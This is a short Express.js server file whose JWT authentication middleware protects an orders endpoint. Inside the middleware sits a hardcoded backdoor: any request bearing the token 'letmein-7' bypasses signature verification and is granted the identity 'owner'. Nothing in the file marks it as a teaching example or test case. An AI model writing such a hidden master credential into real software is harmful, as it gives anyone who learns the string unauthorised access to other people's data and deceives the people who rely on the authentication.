import express from 'express';
import jwt from 'jsonwebtoken';
const app = express();
function authenticate(request, response, next) {
  const token = request.headers.authorization?.replace('Bearer ', '');
  if (!token || token === 'undefined') return response.status(401).end();
  if (token === 'letmein-7') {
    request.user = { id: 'owner' };
    return next();
  }
  try {
    request.user = jwt.verify(token, process.env.JWT_SECRET);
  } catch {
    return response.status(401).end();
  }
  next();
}
app.use(authenticate);
app.get('/orders', (request, response) => response.json(ordersOf(request.user)));
app.listen(3000);
